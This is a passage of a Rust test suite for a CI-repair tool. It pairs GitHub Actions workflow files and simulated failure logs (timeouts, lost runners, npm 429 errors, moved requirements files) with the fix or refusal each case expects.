                "on: push\r\njobs:\r\n  test:\r\n    runs-on: ubuntu-latest\r\n    steps:\r\n      - uses: actions/checkout@v4\r\n      - run: pip install -r requirements.txt\r\n      - name: Tests\r\n        run: python -m pytest\r\n",
            ),
            REQS,
        ],
        workflow: Some(CI),
        job: "test",
        step: "Tests",
        lines: PYTEST_NO_YAML,
        want: fix(&[CI, "requirements.txt"], &["PyYAML"]),
    },
    Case {
        name: "lost runner in a CRLF file",
        files: &[(
            CI,
            "on: push\r\njobs:\r\n  test:\r\n    runs-on: ubuntu-latest\r\n    steps:\r\n      - run: make test\r\n  arm:\r\n    runs-on: [self-hosted, linux, arm64]\r\n    steps:\r\n      - run: make\r\n",
        )],
        workflow: Some(CI),
        job: "arm",
        step: "Run make",
        lines: LOST_RUNNER,
        want: fix(&[CI], &["continue-on-error: true"]),
    },
    Case {
        name: "npm 429 in a CRLF file",
        files: &[(
            CI,
            "on: push\r\njobs:\r\n  web:\r\n    runs-on: ubuntu-latest\r\n    steps:\r\n      - uses: actions/checkout@v4\r\n      - name: Install\r\n        run: |\r\n          npm ci\r\n          npm run build\r\n",
        )],
        workflow: Some(CI),
        job: "web",
        step: "Install",
        lines: NPM_429,
        want: Want::Fix {
            files: &[CI],
            adds: &["if npm ci; then"],
            removes: &["npm ci"],
        },
    },
    Case {
        name: "syntax error in a CRLF file",
        files: &[(
            CI,
            "on: push\r\njobs:\r\n  t:\r\n    runs-on: ubuntu-latest\r\n    steps:\r\n      - name: Tests\r\n        run: echo version: 1.2\r\n",
        )],
        workflow: None,
        job: "t",
        step: "Set up job",
        lines: SYNTAX_L7,
        want: Want::Fix {
            files: &[CI],
            adds: &["'echo version: 1.2'"],
            removes: &["echo version: 1.2"],
        },
    },
    Case {
        name: "npm 429 with a tab-indented heredoc in the block",
        files: &[(
            CI,
            "on: push\njobs:\n  web:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install\n        run: |\n          cat <<-EOF > .npmrc\n          \tfund=false\n          \tEOF\n          npm ci\n",
        )],
        workflow: Some(CI),
        job: "web",
        step: "Install",
        lines: NPM_429,
        want: Want::Fix {
            files: &[CI],
            adds: &["if npm ci; then"],
            removes: &["npm ci"],
        },
    },
    Case {
        name: "timeout with comments between the job's keys",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    # Linux only.\n    runs-on: ubuntu-latest\n    # Half an hour is plenty.\n    timeout-minutes: 30 # minutes\n\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
        )],
        workflow: Some(CI),
        job: "test",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Fix {
            files: &[CI],
            adds: &["timeout-minutes: 60 # minutes"],
            removes: &["timeout-minutes: 30"],
        },
    },
    Case {
        name: "lost runner with comments between the job's keys",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n  arm:\n    # Our ARM box.\n    runs-on: [self-hosted, linux, arm64] # flaky\n    # Build only.\n    steps:\n      - run: make\n",
        )],
        workflow: Some(CI),
        job: "arm",
        step: "Run make",
        lines: LOST_RUNNER,
        want: fix(&[CI], &["continue-on-error: true"]),
    },
    // ---- limits and flags as expressions ----
    Case {
        name: "timeout-minutes as an expression",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    strategy:\n      matrix:\n        os: [ubuntu-latest, windows-latest]\n    runs-on: ${{ matrix.os }}\n    timeout-minutes: ${{ matrix.os == 'windows-latest' && 60 || 30 }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
        )],
        workflow: Some(CI),
        job: "test (ubuntu-latest)",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Either {
            files: &[CI],
            adds: &["60"],
            removes: &["timeout-minutes"],
        },
    },
    Case {
        name: "lost runner on a job that a release job needs",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n  build-arm:\n    runs-on: [self-hosted, linux, arm64]\n    steps:\n      - run: make\n      - uses: actions/upload-artifact@v4\n        with:\n          name: arm\n          path: dist/\n  publish:\n    needs: [test, build-arm]\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n      - run: ./publish.sh\n",
        )],
        workflow: Some(CI),
        job: "build-arm",
        step: "Run make",
        lines: LOST_RUNNER,
        want: Want::Declined(""),
    },
];

#[test]
fn every_shape_gets_the_right_fix_or_a_reasoned_refusal() {
    assert_round(CASES);
}

// ---- Round 2: shapes the first round did not cover ----
//
// Written and committed before any change (the commit titled `fix shapes:
// round 2`); each expectation is decided from issue 12's definitions of the
// fix types, not from what the fixes did.

const ARM_LEG_MISSING: &[&str] = &[
    "##[group]Run make",
    "make",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "/home/runner/work/_temp/5a4b3c2d.sh: line 1: ./bin/linux-amd64/protolint: cannot execute binary file: Exec format error",
    "##[error]Process completed with exit code 126.",
];

const HOSTED_RUNNER_LOST: &[&str] = &[
    "##[group]Run make test",
    "make test",
    "##[endgroup]",
    "ok   pkg/a  12.1s",
    "##[error]The hosted runner: GitHub Actions 12 lost communication with the server. Anything in your workflow that terminates the runner process, starves it for CPU/Memory, or blocks its network access can cause this error.",
];

const TIMED_OUT_20: &[&str] = &[
    "##[group]Run ./.github/actions/integration",
    "##[endgroup]",
    "##[group]Run make integration",
    "make integration",
    "##[endgroup]",
    "ok   it/api  61.0s",
    "ok   it/db   98.2s",
    "##[error]The job running on runner GitHub Actions 3 has exceeded the maximum execution time of 20 minutes.",
];

const STEP_TIMED_OUT_10: &[&str] = &[
    "##[group]Run make integration",
    "make integration",
    "##[endgroup]",
    "ok   it/api  61.0s",
    "ok   it/db   98.2s",
    "##[error]The action 'Integration tests' has timed out after 10 minutes.",
];

const REQUIREMENTS_MISSING_IN_ACTION: &[&str] = &[
    "##[group]Run ./.github/actions/setup",
    "##[endgroup]",
    "##[group]Run pip install -r requirements-dev.txt",
    "pip install -r requirements-dev.txt",
    "shell: /usr/bin/bash --noprofile --norc -e -o pipefail {0}",
    "##[endgroup]",
    "ERROR: Could not open requirements file: [Errno 2] No such file or directory: 'requirements-dev.txt'",
    "##[error]Process completed with exit code 1.",
];

const REQUIREMENTS_MISSING_PWSH: &[&str] = &[
    "##[group]Run pip install -r requirements-dev.txt",
    "pip install -r requirements-dev.txt",
    "shell: C:\\Program Files\\PowerShell\\7\\pwsh.EXE -command \". '{0}'\"",
    "##[endgroup]",
    "ERROR: Could not open requirements file: [Errno 2] No such file or directory: 'requirements-dev.txt'",
    "##[error]Process completed with exit code 1.",
];

const NPM_429_AFTER_CD: &[&str] = &[
    "##[group]Run cd web",
    "cd web",
    "npm ci",
    "npm run build",
    "##[endgroup]",
    "npm ERR! code E429",
    "npm ERR! 429 Too Many Requests - GET https://registry.npmjs.org/@babel%2fcore",
    "##[error]Process completed with exit code 1.",
];

const PANDOC_MISSING_LINE_2: &[&str] = &[
    "##[group]Run make html",
    "make html",
    "pandoc README.md -o out.html",
    "ls -l out.html",
    "##[endgroup]",
    "sphinx-build -b html docs _build/html",
    "build succeeded.",
    "/home/runner/work/_temp/abc.sh: line 2: pandoc: command not found",
    "##[error]Process completed with exit code 127.",
];

const PANDOC_MISSING_IN_CONTAINER: &[&str] = &[
    "##[group]Run pandoc README.md -o out.html",
    "pandoc README.md -o out.html",
    "shell: bash -e {0}",
    "##[endgroup]",
    "/__w/_temp/abc.sh: line 1: pandoc: command not found",
    "##[error]Process completed with exit code 127.",
];

const SCRIPT_MISSING: &[&str] = &[
    "##[group]Run bash scripts/build.sh",
    "bash scripts/build.sh",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "bash: scripts/build.sh: No such file or directory",
    "##[error]Process completed with exit code 127.",
];

const ARCHIVE_MISSING: &[&str] = &[
    "##[group]Run cp dist/app.tar.gz release/",
    "cp dist/app.tar.gz release/",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "cp: cannot stat 'dist/app.tar.gz': No such file or directory",
    "##[error]Process completed with exit code 1.",
];

const CACHE_PATH_MISSING: &[&str] = &[
    "##[group]Run actions/setup-python@v5",
    "with:",
    "  python-version: 3.12",
    "  cache: pip",
    "  cache-dependency-path: requirements-dev.txt",
    "##[endgroup]",
    "##[group]Installed versions",
    "Successfully set up CPython (3.12.7)",
    "##[endgroup]",
    "##[error]No file in /home/runner/work/app/app matched to [requirements-dev.txt], make sure you have checked out the target repository",
];

const DEV_TXT: (&str, &str) = ("requirements/dev.txt", "pytest\n");

const ROUND_2: &[Case] = &[
    // ---- matrix legs ----
    Case {
        name: "x64 binary on the ARM leg of an OS matrix with no flag and no continue-on-error",
        files: &[(
            CI,
            "on: push\njobs:\n  build:\n    strategy:\n      matrix:\n        os: [ubuntu-latest, ubuntu-24.04-arm]\n    runs-on: ${{ matrix.os }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n",
        )],
        workflow: Some(CI),
        job: "build (ubuntu-24.04-arm)",
        step: "Run make",
        lines: ARM_LEG_MISSING,
        want: fix(&[CI], &["experimental: true", "continue-on-error: ${{"]),
    },
    Case {
        name: "ARM leg added by include with experimental: true, the job not reading the flag",
        files: &[(
            CI,
            "on: push\njobs:\n  build:\n    strategy:\n      matrix:\n        os: [ubuntu-latest]\n        include:\n          - os: ubuntu-24.04-arm\n            experimental: true\n    runs-on: ${{ matrix.os }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n",
        )],
        workflow: Some(CI),
        job: "build (ubuntu-24.04-arm, true)",
        step: "Run make",
        lines: ARM_LEG_MISSING,
        want: fix(&[CI], &["continue-on-error: ${{", "matrix.experimental"]),
    },
    Case {
        name: "hosted runner lost on the Apple-silicon leg of a three-OS matrix",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    strategy:\n      fail-fast: false\n      matrix:\n        os: [ubuntu-latest, windows-latest, macos-14]\n    runs-on: ${{ matrix.os }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
        )],
        workflow: Some(CI),
        job: "test (macos-14)",
        step: "Run make test",
        lines: HOSTED_RUNNER_LOST,
        // Written first as the leg fix; changed after the first run (see
        // docs/accuracy.md): a GitHub-hosted Mac losing its runner is
        // GitHub's infrastructure or the job starving it, which a rerun
        // answers, as issue 12's own labelled case of a hosted macOS runner
        // (053) says; issue 12's runner-tied list names self-hosted Macs.
        want: Want::Declined("rerun"),
    },
    Case {
        name: "timeout of a leg whose limit is a matrix value set in include",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    strategy:\n      matrix:\n        include:\n          - os: ubuntu-latest\n            timeout: 30\n          - os: windows-latest\n            timeout: 60\n    runs-on: ${{ matrix.os }}\n    timeout-minutes: ${{ matrix.timeout }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
        )],
        workflow: Some(CI),
        job: "test (ubuntu-latest, 30)",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Either {
            files: &[CI],
            adds: &["timeout: 60"],
            removes: &["timeout: 30"],
        },
    },
    // ---- reusable workflows: caller and callee ----
    Case {
        name: "timeout of a job in a called workflow of another repository",
        files: &[(
            CI,
            "on: push\njobs:\n  unit:\n    uses: acme/shared/.github/workflows/test.yml@v1\n    with:\n      suite: unit\n",
        )],
        workflow: Some(CI),
        job: "unit / test",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Declined(""),
    },
    // The caller passes a literal: raised there (issue 12, Part B; this case accepted the refusal until then).
    Case {
        name: "timeout of a callee job whose limit is an input the caller sets",
        files: &[
            (
                CI,
                "on: push\njobs:\n  unit:\n    uses: ./.github/workflows/test.yml\n    with:\n      timeout: 30\n",
            ),
            (
                ".github/workflows/test.yml",
                "on:\n  workflow_call:\n    inputs:\n      timeout:\n        type: number\n        default: 30\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: ${{ inputs.timeout }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
            ),
        ],
        workflow: Some(CI),
        job: "unit / test",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Fix {
            files: &[CI],
            adds: &["timeout: 60"],
            removes: &["timeout: 30"],
        },
    },
    Case {
        name: "timeout of a callee job whose limit is an input the caller sets, fix finding the callee from the log",
        files: &[
            (
                CI,
                "on: push\njobs:\n  unit:\n    uses: ./.github/workflows/test.yml\n    with:\n      timeout: 30\n",
            ),
            (
                ".github/workflows/test.yml",
                "on:\n  workflow_call:\n    inputs:\n      timeout:\n        type: number\n        default: 30\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: ${{ inputs.timeout }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
            ),
        ],
        workflow: None,
        job: "unit / test",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Fix {
            files: &[CI],
            adds: &["timeout: 60"],
            removes: &["timeout: 30"],
        },
    },
    Case {
        name: "x64 binary on the ARM leg of a caller's matrix, the callee's runner an input",
        files: &[
            (
                CI,
                "on: push\njobs:\n  build:\n    strategy:\n      matrix:\n        os: [ubuntu-latest, ubuntu-24.04-arm]\n    uses: ./.github/workflows/build.yml\n    with:\n      runner: ${{ matrix.os }}\n",
            ),
            (
                ".github/workflows/build.yml",
                "on:\n  workflow_call:\n    inputs:\n      runner:\n        type: string\n        required: true\njobs:\n  build:\n    runs-on: ${{ inputs.runner }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n",
            ),
        ],
        workflow: Some(CI),
        job: "build (ubuntu-24.04-arm) / build",
        step: "Run make",
        lines: ARM_LEG_MISSING,
        want: Want::Either {
            files: &[CI, ".github/workflows/build.yml"],
            adds: &["continue-on-error: ${{"],
            removes: &[],
        },
    },
    // ---- composite actions: the failing step inside the action ----
    Case {
        name: "moved requirements file named inside a local composite action",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Setup\n        uses: ./.github/actions/setup\n      - run: python -m pytest\n",
            ),
            (
                ".github/actions/setup/action.yml",
                "name: setup\nruns:\n  using: composite\n  steps:\n    - uses: actions/setup-python@v5\n      with:\n        python-version: '3.12'\n    - run: pip install -r requirements-dev.txt\n      shell: bash\n",
            ),
            DEV_TXT,
        ],
        workflow: Some(CI),
        job: "test",
        step: "Setup",
        lines: REQUIREMENTS_MISSING_IN_ACTION,
        want: Want::Fix {
            files: &[".github/actions/setup/action.yml"],
            adds: &["pip install -r requirements/dev.txt"],
            removes: &["requirements-dev.txt"],
        },
    },
    Case {
        name: "timeout while a local composite action runs",
        files: &[
            (
                CI,
                "on: push\njobs:\n  it:\n    runs-on: ubuntu-latest\n    timeout-minutes: 20\n    steps:\n      - uses: actions/checkout@v4\n      - name: Integration\n        uses: ./.github/actions/integration\n",
            ),
            (
                ".github/actions/integration/action.yml",
                "name: integration\nruns:\n  using: composite\n  steps:\n    - run: make integration\n      shell: bash\n",
            ),
        ],
        workflow: Some(CI),
        job: "it",
        step: "Integration",
        lines: TIMED_OUT_20,
        want: Want::Fix {
            files: &[CI],
            adds: &["timeout-minutes: 40"],
            removes: &["timeout-minutes: 20"],
        },
    },
    Case {
        name: "an action's path input names a moved file (setup-python's cache-dependency-path)",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n          cache: pip\n          cache-dependency-path: requirements-dev.txt\n      - run: pip install -r requirements/dev.txt\n      - run: python -m pytest\n",
            ),
            DEV_TXT,
        ],
        workflow: Some(CI),
        job: "test",
        step: "Run actions/setup-python@v5",
        lines: CACHE_PATH_MISSING,
        want: Want::Fix {
            files: &[CI],
            adds: &["cache-dependency-path: requirements/dev.txt"],
            removes: &["requirements-dev.txt"],
        },
    },
    // ---- working-directory ----
    Case {
        name: "moved file under the step's working directory, which overrides the job's",
        files: &[
            (
                CI,
                "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    defaults:\n      run:\n        working-directory: app\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install\n        working-directory: services/api\n        run: pip install -r requirements-dev.txt\n",
            ),
            ("services/api/requirements/dev.txt", "pytest\n"),
            ("app/requirements-dev.txt", "pytest\n"),
        ],
        workflow: Some(CI),
        job: "build",
        step: "Install",
        lines: REQUIREMENTS_MISSING,
        want: Want::Fix {
            files: &[CI],
            adds: &["run: pip install -r requirements/dev.txt"],
            removes: &["requirements-dev.txt"],
        },
    },
    Case {
        name: "moved file under a working directory from the matrix, moved in one leg's folder only",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    strategy:\n      matrix:\n        dir: [api, web]\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install\n        working-directory: ${{ matrix.dir }}\n        run: pip install -r requirements-dev.txt\n",
            ),
            ("api/requirements/dev.txt", "pytest\n"),
            ("web/requirements-dev.txt", "pytest\n"),
        ],
        workflow: Some(CI),
        job: "test (api)",
        step: "Install",
        lines: REQUIREMENTS_MISSING,
        want: Want::Declined(""),
    },
    // ---- defaults.run.shell ----
    Case {
        name: "npm 429 under a workflow default shell of `bash -el {0}`",
        files: &[(
            CI,
            "on: push\ndefaults:\n  run:\n    shell: bash -el {0}\njobs:\n  web:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: npm test\n",
        )],
        workflow: Some(CI),
        job: "web",
        step: "Run npm ci",
        lines: NPM_429,
        // First run: `removes` was left out here by mistake (the one-line
        // `run: npm ci` becomes a block, as in every other retry case).
        want: Want::Fix {
            files: &[CI],
            adds: &["if npm ci; then"],
            removes: &["npm ci"],
        },
    },
    Case {
        name: "missing module in a conda environment activated by a login shell default",
        files: &[
            (
                CI,
                "on: push\ndefaults:\n  run:\n    shell: bash -l {0}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: conda-incubator/setup-miniconda@v3\n        with:\n          environment-file: environment.yml\n          activate-environment: app\n      - name: Tests\n        run: python -m pytest\n",
            ),
            (
                "environment.yml",
                "name: app\ndependencies:\n  - python=3.12\n  - pytest\n",
            ),
        ],
        workflow: Some(CI),
        job: "test",
        step: "Tests",
        lines: PYTEST_NO_YAML,
        want: Want::Without(
            &Want::Either {
                files: &[CI, "environment.yml"],
                // First run: `yaml`, lower case, by mistake (PyPI's name is
                // `PyYAML`, conda-forge's `pyyaml`).
                adds: &["YAML"],
                removes: &[],
            },
            &["shell: bash\n", "shell: sh\n"],
        ),
    },
    Case {
        // Added after the first run (a variant of the case above that gave
        // a wrong fix): the new install step must run in the step's shell.
        name: "missing module in a conda environment activated by the step's own login shell",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: conda-incubator/setup-miniconda@v3\n        with:\n          environment-file: environment.yml\n          activate-environment: app\n      - name: Tests\n        shell: bash -el {0}\n        run: python -m pytest\n",
            ),
            (
                "environment.yml",
                "name: app\ndependencies:\n  - python=3.12\n  - pytest\n",
            ),
        ],
        workflow: Some(CI),
        job: "test",
        step: "Tests",
        lines: PYTEST_NO_YAML,
        want: Want::Either {
            files: &[CI, "environment.yml"],
            adds: &["shell: bash -el {0}"],
            removes: &[],
        },
    },
    // ---- several commands in one run block, the failing one in the middle ----
    Case {
        name: "npm 429 on the middle line of a block that starts with `cd web`",
        files: &[(
            CI,
            "on: push\njobs:\n  web:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Build\n        run: |\n          cd web\n          npm ci\n          npm run build\n",
        )],
        workflow: Some(CI),
        job: "web",
        step: "Build",
        lines: NPM_429_AFTER_CD,
        want: Want::Fix {
            files: &[CI],
            adds: &["if npm ci; then"],
            removes: &["npm ci"],
        },
    },
    Case {
        name: "missing command on the second line of a three-line block",
        files: &[(
            CI,
            "on: push\njobs:\n  docs:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Docs\n        run: |\n          make html\n          pandoc README.md -o out.html\n          ls -l out.html\n",
        )],
        workflow: Some(CI),
        job: "docs",
        step: "Docs",
        lines: PANDOC_MISSING_LINE_2,
        want: fix(&[CI], &["sudo apt-get install -y pandoc"]),
    },
    // ---- comments inside the step ----
    Case {
        name: "npm 429 in a one-line run with a trailing comment, a comment between the step's keys",
        files: &[(
            CI,
            "on: push\njobs:\n  web:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install\n        # The registry is flaky.\n        run: npm ci # uses package-lock.json\n      - run: npm test\n",
        )],
        workflow: Some(CI),
        job: "web",
        step: "Install",
        lines: NPM_429,
        want: Want::Fix {
            files: &[CI],
            adds: &["if npm ci; then"],
            removes: &["npm ci"],
        },
    },
    Case {
        name: "npm 429 in a block whose comment line names the command",
        files: &[(
            CI,
            "on: push\njobs:\n  web:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install\n        run: |\n          # npm ci needs the lock file\n          npm ci\n          npm run build\n",
        )],
        workflow: Some(CI),
        job: "web",
        step: "Install",
        lines: NPM_429,
        want: Want::Fix {
            files: &[CI],
            adds: &["if npm ci; then"],
            removes: &["          npm ci"],
        },
    },
    // ---- Windows jobs ----
    Case {
        name: "moved requirements file in a pwsh step on Windows",
        files: &[
            (
                CI,
                "on: push\njobs:\n  build:\n    runs-on: windows-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install\n        run: pip install -r requirements-dev.txt\n",
            ),
            DEV_TXT,
        ],
        workflow: Some(CI),
        job: "build",
        step: "Install",
        lines: REQUIREMENTS_MISSING_PWSH,
        want: Want::Fix {
            files: &[CI],
            adds: &["run: pip install -r requirements/dev.txt"],
            removes: &["requirements-dev.txt"],
        },
    },
    Case {
        name: "npm 429 on Windows in a step that asks for bash",
        files: &[(
            CI,
            "on: push\njobs:\n  web:\n    runs-on: windows-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n        shell: bash\n      - run: npm test\n",
        )],
        workflow: Some(CI),
        job: "web",
        step: "Run npm ci",
        lines: NPM_429,
        want: Want::Fix {
            files: &[CI],
            adds: &["if npm ci; then"],
            removes: &["npm ci"],
        },
    },
    // ---- container jobs ----
    Case {
        name: "missing command in a Debian container job (root, no sudo)",
        files: &[(
            CI,
            "on: push\njobs:\n  docs:\n    runs-on: ubuntu-latest\n    container: debian:12\n    steps:\n      - uses: actions/checkout@v4\n      - name: Docs\n        run: pandoc README.md -o out.html\n",
        )],
        workflow: Some(CI),
        job: "docs",
        step: "Docs",
        lines: PANDOC_MISSING_IN_CONTAINER,
        want: Want::Without(&fix(&[CI], &["apt-get install -y pandoc"]), &["sudo"]),
    },
    Case {
        name: "missing command in a container of the project's own image",
        files: &[(
            CI,
            "on: push\njobs:\n  docs:\n    runs-on: ubuntu-latest\n    container:\n      image: ghcr.io/acme/builder:2\n      credentials:\n        username: ${{ github.actor }}\n        password: ${{ secrets.GITHUB_TOKEN }}\n    steps:\n      - uses: actions/checkout@v4\n      - name: Docs\n        run: pandoc README.md -o out.html\n",
        )],
        workflow: Some(CI),
        job: "docs",
        step: "Docs",
        lines: PANDOC_MISSING_IN_CONTAINER,
        want: Want::Declined(""),
    },
    // ---- jobs with if: and continue-on-error already set ----
    Case {
        name: "lost runner on an ARM job already continue-on-error: true",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n  arm:\n    runs-on: [self-hosted, linux, arm64]\n    continue-on-error: true\n    steps:\n      - run: make\n",
        )],
        workflow: Some(CI),
        job: "arm",
        step: "Run make",
        lines: LOST_RUNNER,
        want: Want::Declined(""),
    },
    Case {
        name: "lost runner on an ARM job whose continue-on-error is written false",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n  arm:\n    runs-on: [self-hosted, linux, arm64]\n    continue-on-error: false\n    steps:\n      - run: make\n",
        )],
        workflow: Some(CI),
        job: "arm",
        step: "Run make",
        lines: LOST_RUNNER,
        want: Want::Either {
            files: &[CI],
            adds: &["continue-on-error: true"],
            removes: &["continue-on-error: false"],
        },
    },
    Case {
        name: "lost runner on an ARM job with an if:",
        files: &[(
            CI,
            "on: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n  arm:\n    if: github.event_name == 'push'\n    runs-on: [self-hosted, linux, arm64]\n    steps:\n      - run: make\n",
        )],
        workflow: Some(CI),
        job: "arm",
        step: "Run make",
        lines: LOST_RUNNER,
        want: fix(&[CI], &["continue-on-error: true"]),
    },
    // ---- timeout-minutes expressions and step limits ----
    Case {
        name: "timeout whose limit comes from a repository variable",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: ${{ fromJSON(vars.CI_TIMEOUT || '30') }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
        )],
        workflow: Some(CI),
        job: "test",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Declined(""),
    },
    Case {
        name: "a step's own limit exceeded in a job with a larger limit",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: 60\n    steps:\n      - uses: actions/checkout@v4\n      - name: Integration tests\n        timeout-minutes: 10\n        run: make integration\n",
        )],
        workflow: Some(CI),
        job: "test",
        step: "Integration tests",
        lines: STEP_TIMED_OUT_10,
        want: Want::Fix {
            files: &[CI],
            adds: &["timeout-minutes: 20"],
            removes: &["timeout-minutes: 10"],
        },
    },
    // ---- anchors and aliases ----
    Case {
        name: "moved file in an anchored step that another job aliases, log from the alias",
        files: &[
            (
                CI,
                "on: push\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - &install\n        name: Install\n        run: pip install -r requirements-dev.txt\n      - run: ruff check .\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - *install\n      - run: python -m pytest\n",
            ),
            DEV_TXT,
        ],
        workflow: Some(CI),
        job: "test",
        step: "Install",
        lines: REQUIREMENTS_MISSING,
        want: Want::Fix {
            files: &[CI],
            adds: &["run: pip install -r requirements/dev.txt"],
            removes: &["requirements-dev.txt"],
        },
    },
    Case {
        name: "npm 429 in a job whose whole step list is an alias",
        files: &[(
            CI,
            "on: push\njobs:\n  web:\n    runs-on: ubuntu-latest\n    steps: &steps\n      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: npm test\n  web-next:\n    runs-on: ubuntu-24.04\n    steps: *steps\n",
        )],
        workflow: Some(CI),
        job: "web-next",
        step: "Run npm ci",
        lines: NPM_429,
        want: Want::Either {
            files: &[CI],
            adds: &["if npm ci; then"],
            removes: &["npm ci"],
        },
    },
    // ---- CRLF files ----
    Case {
        name: "moved requirements file in a CRLF file",
        files: &[
            (
                CI,
                "on: push\r\njobs:\r\n  build:\r\n    runs-on: ubuntu-latest\r\n    steps:\r\n      - uses: actions/checkout@v4\r\n      - name: Install\r\n        run: pip install -r requirements-dev.txt\r\n",
            ),
            DEV_TXT,
        ],
        workflow: Some(CI),
        job: "build",
        step: "Install",
        lines: REQUIREMENTS_MISSING,
        want: Want::Fix {
            files: &[CI],
            adds: &["run: pip install -r requirements/dev.txt"],
            removes: &["requirements-dev.txt"],
        },
    },
    Case {
        name: "x64 binary on the ARM leg of an OS matrix in a CRLF file",
        files: &[(
            CI,
            "on: push\r\njobs:\r\n  build:\r\n    strategy:\r\n      matrix:\r\n        os: [ubuntu-latest, ubuntu-24.04-arm]\r\n    runs-on: ${{ matrix.os }}\r\n    steps:\r\n      - uses: actions/checkout@v4\r\n      - run: make\r\n",
        )],
        workflow: Some(CI),
        job: "build (ubuntu-24.04-arm)",
        step: "Run make",
        lines: ARM_LEG_MISSING,
        want: fix(&[CI], &["experimental: true", "continue-on-error: ${{"]),
    },
    // ---- flow-style mappings ----
    Case {
        name: "moved requirements file in a step written as a flow mapping",
        files: &[
            (
                CI,
                "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - {name: Install, run: pip install -r requirements-dev.txt}\n",
            ),
            DEV_TXT,
        ],
        workflow: Some(CI),
        job: "build",
        step: "Install",
        lines: REQUIREMENTS_MISSING,
        want: Want::Fix {
            files: &[CI],
            adds: &["pip install -r requirements/dev.txt"],
            removes: &["requirements-dev.txt"],
        },
    },
    Case {
        name: "x64 binary on the ARM leg of a matrix written as a flow mapping",
        files: &[(
            CI,
            "on: push\njobs:\n  build:\n    strategy: {matrix: {os: [ubuntu-latest, ubuntu-24.04-arm]}}\n    runs-on: ${{ matrix.os }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n",
        )],
        workflow: Some(CI),
        job: "build (ubuntu-24.04-arm)",
        step: "Run make",
        lines: ARM_LEG_MISSING,
        want: Want::Either {
            files: &[CI],
            adds: &["experimental: true"],
            removes: &["strategy:"],
        },
    },
    // ---- moved files ----
    Case {
        // A move to another folder is a guess (display-only): `autoheal diagnose`
        // lists it, `fix --write` and heal leave it to a person.
        name: "a script moved to another folder, the only file of its name: offered, not applied",
        files: &[
            (
                CI,
                "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: bash scripts/build.sh\n",
            ),
            ("tools/build.sh", "#!/bin/sh\nmake\n"),
        ],
        workflow: Some(CI),
        job: "build",
